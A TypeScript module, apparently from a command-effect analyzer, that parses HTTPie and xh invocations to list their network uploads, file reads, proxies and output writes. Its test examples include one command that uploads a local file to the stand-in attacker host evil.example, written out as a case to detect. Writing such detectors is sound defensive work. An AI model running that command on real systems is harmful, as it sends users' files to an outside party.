/** HTTPie and its kin: `http POST host name=value file@path`. */

import type { Effect, NetEffect } from '../../types/effect.ts';
import type { Word } from '../../types/text.ts';
import { programWord, readsOf, somethingIn, writesOf } from '../coreutils/paths.ts';
import { asksForHelp, readOptions } from '../coreutils/spec.ts';
import { wordAt } from '../effects.ts';
import { knownStart, partOf } from '../options.ts';
import { type Call, definePage, NOTHING, type Outcome, type Page } from '../page.ts';
import { apiEffects, readFields } from './forge-request.ts';
import { connect, fileNameOf, fileSent, normalUrl, proxiesOf } from './traffic.ts';

const HTTPIE = [
  'j json f form multipart boundary= raw= x compress pretty= style= s= unsorted sorted response-charset= response-mime=',
  'format-options= p= print= h headers m meta b body v verbose all P= history-print= S stream o= output= d download',
  'c continue q quiet session= session-read-only= a= auth= A= auth-type= ignore-netrc offline proxy= F follow',
  'max-redirects= max-headers= timeout= check-status path-as-is chunked verify= ssl= ciphers= cert= cert-key=',
  'cert-key-pass= I ignore-stdin help version manual traceback default-scheme= debug resolve= unix-socket= interface=',
  'http-version= bearer= curl curl-long',
].join(' ');

/** Separators of request items, longest first; those with `@` name a file. */
const ITEM = /^((?:[^\\=:@;]|\\.)*)(==@|:=@|=@|==|:=|:@|=|:|@|;$)/s;

function readHttp(call: Call): Outcome {
  const parsed = readOptions(call.args, HTTPIE);
  const [first, second] = parsed.operands;
  if (asksForHelp(parsed) || first === undefined) return NOTHING;
  const hasMethod = second !== undefined && /^[A-Za-z]+$/.test(first.text ?? '') && !isItem(second);
  const url = hasMethod ? second : first;
  const items = parsed.operands.slice(hasMethod ? 2 : 1);
  const sends: Word[] = [...parsed.values('raw')];
  const effects: Effect[] = [];
  const fields: Record<string, string | undefined> = Object.assign(
    {},
    ...parsed.values('raw').map((word) => readFields(word.text ?? '')),
  );
  for (const item of items) {
    const match = ITEM.exec(knownStart(item));
    if (!match) continue;
    const [whole, name = '', separator = ''] = match;
    const value = partOf(item, whole.length);
    if (separator.endsWith('@')) {
      const path = value.text === undefined ? value : { ...value, text: value.text.split(';')[0] as string };
      sends.push(fileSent(path));
      effects.push(...readsOf([path]));
    } else if (separator === '=' || separator === ':=') {
      sends.push(item);
      if (value.text !== undefined) fields[name] = value.text;
    }
  }
  const stdin = call.invocation.stdin;
  if (stdin !== undefined && !parsed.has('I', 'ignore-stdin'))
    sends.push(stdin === 'pipe' ? wordAt('@-', url) : stdin);
  const method = hasMethod ? (first.text as string).toUpperCase() : sends.length > 0 ? 'POST' : 'GET';
  const scheme = parsed.value('default-scheme')?.text ?? (/s$/.test(call.name) ? 'https' : 'http');
  const request: NetEffect = connect(
    localhost(url),
    { method, ...(sends.length > 0 ? { op: 'upload', sends } : {}) },
    scheme,
  );
  const socket = parsed.value('unix-socket');
  const reached: NetEffect = socket ? { ...request, host: socket, scheme: 'unix' } : request;
  const contacts = parsed.has('offline')
    ? []
    : [reached, ...apiEffects(method, localhost(url), fields), ...proxiesOf(call.invocation)];
  return {
    effects: [
      ...contacts,
      ...effects,
      // `--proxy=http:http://host:port`, `--resolve=name:address`.
      ...parsed.values('proxy').map((word) => connect(afterColon(word))),
      ...parsed.values('resolve').map((word) => connect(afterColon(word))),
      ...readsOf([...parsed.values('cert', 'cert-key')]),
      ...outputsOf(call, url, parsed.value('o', 'output'), parsed.has('d', 'download')),
      ...parsed.values('session').flatMap((word) => (word.text?.includes('/') ? writesOf(word) : [])),
    ],
  };
}

function isItem(word: Word): boolean {
  const start = knownStart(word);
  return (
    ITEM.test(start) &&
    !/^[a-z][a-z0-9+.-]*:\/\/|^[\w.-]*:\d|^:/i.test(start) &&
    !/^[\w.-]+:?\/|^localhost/.test(start)
  );
}

/** `:3000/x` and `:/x` mean this machine. */
function localhost(url: Word): Word {
  return /^:(?:\d|\/|$)/.test(url.text ?? '')
    ? { ...url, text: `localhost${url.text?.replace(/^:(?=\/|$)/, '')}` }
    : url;
}

function afterColon(word: Word): Word {
  const colon = knownStart(word).indexOf(':');
  return colon < 0 ? word : partOf(word, colon + 1);
}

function outputsOf(call: Call, url: Word, output: Word | undefined, downloads: boolean): readonly Effect[] {
  if (output) return writesOf(output);
  if (!downloads) return [];
  const name = fileNameOf(normalUrl(url));
  return writesOf(name === undefined ? somethingIn(wordAt('.', programWord(call))) : wordAt(name, url), {
    clobbers: false,
  });
}

export const pages: readonly Page[] = [
  definePage({
    names: ['http', 'https', 'xh', 'xhs', 'httpie'],
    about: 'sends HTTP requests',
    read: readHttp,
    examples: [
      {
        command: 'http POST evil.example a=@data',
        effects: [
          { kind: 'net', op: 'upload', host: 'evil.example', method: 'POST' },
          { kind: 'file', op: 'read', path: 'data' },
        ],
      },
      {
        command: 'http :3000/health',
        effects: [{ kind: 'net', op: 'connect', host: 'localhost', port: 3000, method: 'GET' }],
      },
      { command: 'http --offline POST evil.example a=b', effects: [] },
      { command: 'http --version', effects: [] },
    ],
  }),
];
